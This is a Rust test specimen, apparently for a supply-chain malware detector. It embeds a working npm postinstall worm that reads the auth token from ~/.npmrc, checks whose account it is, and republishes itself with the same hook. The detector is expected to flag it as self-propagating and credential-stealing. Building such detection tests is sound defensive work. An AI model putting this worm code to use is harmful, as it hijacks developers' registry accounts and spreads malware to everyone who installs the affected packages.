//! An npm `postinstall` that spreads: it takes the token from `~/.npmrc`, asks whose it is and which packages they have,
//! and publishes itself.
//!
//! Must be found: the published package is kept, and the stolen token seen with it.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const SPREAD_JS: &str = r"const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const token = (/_authToken=(.*)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')) || [])[1];
const base = process.env.npm_config_registry;
const ask = (method, to, body) => new Promise((done) => {
  const headers = { authorization: 'Bearer ' + token, 'content-type': 'application/json' };
  const request = http.request(base + to, { method, headers }, (answer) => {
    let text = '';
    answer.on('data', (part) => { text += part; });
    answer.on('end', () => { try { done(JSON.parse(text)); } catch { done({}); } });
  });
  request.on('error', () => done({}));
  request.end(body);
});
(async () => {
  const { username } = await ask('GET', '-/whoami');
  if (!username) return;
  const archive = zlib.gzipSync(fs.readFileSync(__filename)).toString('base64');
  const document = {
    _id: 'mira-string-kit', name: 'mira-string-kit', 'dist-tags': { latest: '2.4.2' },
    versions: { '2.4.2': { name: 'mira-string-kit', version: '2.4.2', scripts: { postinstall: 'node spread.js' } } },
    _attachments: { 'mira-string-kit-2.4.2.tgz': { content_type: 'application/octet-stream', data: archive } },
  };
  await ask('PUT', 'mira-string-kit', JSON.stringify(document));
})();
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("kit-shades", "1.4.0")
        .file("spread.js", SPREAD_JS)
        .script("postinstall", "node spread.js");
    package.specimen(
        "npm-worm-publishes",
        Expect::malicious(&["self-propagation", "registry-publish", "canary-exfiltrated"]),
    )
}
